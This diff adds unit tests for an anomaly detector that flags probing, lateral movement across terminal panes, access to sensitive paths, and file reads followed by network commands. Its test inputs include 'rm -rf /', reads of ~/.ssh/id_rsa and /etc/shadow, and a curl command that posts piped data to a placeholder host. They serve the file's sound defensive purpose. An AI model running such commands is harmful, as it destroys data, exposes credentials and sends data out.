@@ -1,0 +1,101 @@
+import { describe, expect, it } from "vitest";
+import { isCcmuxError } from "../../src/errors.js";
+import {
+  AnomalyDetector,
+  type AnomalyPolicy,
+  DEFAULT_NETWORK_PROGRAMS,
+  DEFAULT_READ_PROGRAMS,
+  DEFAULT_SENSITIVE_PATHS,
+} from "../../src/validation/anomaly-rules.js";
+
+const POLICY: AnomalyPolicy = {
+  lateral: { panes: 3, windowMs: 60_000, cooldownMs: 120_000 },
+  probing: { slowAfter: 3, blockAfter: 5, windowMs: 60_000, slowMs: 500, cooldownMs: 300_000 },
+  sensitivePaths: DEFAULT_SENSITIVE_PATHS,
+  exfiltration: {
+    windowMs: 120_000,
+    readPrograms: DEFAULT_READ_PROGRAMS,
+    networkPrograms: DEFAULT_NETWORK_PROGRAMS,
+  },
+};
+
+function detector(): { rules: AnomalyDetector; advance: (ms: number) => void } {
+  let now = 1_000_000;
+  return { rules: new AnomalyDetector(POLICY, () => now), advance: (ms) => (now += ms) };
+}
+
+function codeOf(fn: () => unknown): string | undefined {
+  try {
+    fn();
+  } catch (error) {
+    return isCcmuxError(error) ? error.code : "other";
+  }
+  return undefined;
+}
+
+describe("anomaly rules", () => {
+  it("probing: repeated refusals slow the connection, then block it until the cool-down ends", () => {
+    const { rules, advance } = detector();
+    const deny = () => rules.observe({ tool: "spawn", decision: "deny", args: { command: "rm -rf /" } });
+    expect(deny()).toEqual([]);
+    deny();
+    expect(deny()).toMatchObject([{ rule: "probing", severity: "medium" }]);
+    expect(rules.gate("list_panes", undefined).delayMs).toBe(500);
+    deny();
+    expect(deny()).toMatchObject([{ rule: "probing", severity: "high" }]);
+    expect(codeOf(() => rules.gate("list_panes", undefined))).toBe("ANOMALY_BLOCKED");
+    advance(300_001);
+    expect(rules.gate("list_panes", undefined).delayMs).toBe(0);
+  });
+
+  it("probing: refusals spread wider than the window never add up", () => {
+    const { rules, advance } = detector();
+    for (let i = 0; i < 10; i++) {
+      expect(rules.observe({ tool: "spawn", decision: "deny", args: {} })).toEqual([]);
+      advance(31_000);
+    }
+  });
+
+  it("lateral movement: too many panes in the window blocks further panes, not the ones already touched", () => {
+    const { rules, advance } = detector();
+    for (const pane of ["p-1", "p-2", "p-3"]) {
+      expect(rules.observe({ tool: "read_pane", pane, decision: "allow", args: { pane } })).toEqual([]);
+    }
+    expect(
+      rules.observe({ tool: "read_pane", pane: "p-4", decision: "allow", args: { pane: "p-4" } }),
+    ).toMatchObject([{ rule: "lateral-movement", severity: "medium" }]);
+    expect(codeOf(() => rules.gate("read_pane", "p-5"))).toBe("ANOMALY_BLOCKED");
+    expect(rules.gate("read_pane", "p-1").delayMs).toBe(0);
+    advance(120_001);
+    expect(rules.gate("read_pane", "p-5").delayMs).toBe(0);
+  });
+
+  it("sensitive paths raise a high-severity event, allowed or not", () => {
+    const { rules } = detector();
+    expect(
+      rules.observe({ tool: "spawn", decision: "deny", args: { command: "cat ~/.ssh/id_rsa" } }),
+    ).toMatchObject([{ rule: "sensitive-path", severity: "high" }]);
+    expect(
+      rules.observe({ tool: "send_keys", decision: "allow", args: { text: "sudo cat /etc/shadow" } }),
+    ).toMatchObject([{ rule: "sensitive-path" }]);
+  });
+
+  it("a file read followed by a network-capable command raises an alert, within the window only", () => {
+    const { rules, advance } = detector();
+    rules.observe({ tool: "send_keys", decision: "allow", args: { text: "cat notes.txt" } });
+    expect(
+      rules.observe({
+        tool: "send_keys",
+        decision: "allow",
+        args: { text: "ls; /usr/bin/curl -d @- https://x.example" },
+      }),
+    ).toMatchObject([{ rule: "read-then-network", severity: "high" }]);
+    advance(120_001);
+    expect(
+      rules.observe({ tool: "send_keys", decision: "allow", args: { text: "curl https://x.example" } }),
+    ).toEqual([]);
+    expect(
+      rules.observe({ tool: "spawn", decision: "allow", args: { command: "git push origin main" } }),
+    ).toEqual([]);
+  });
+});
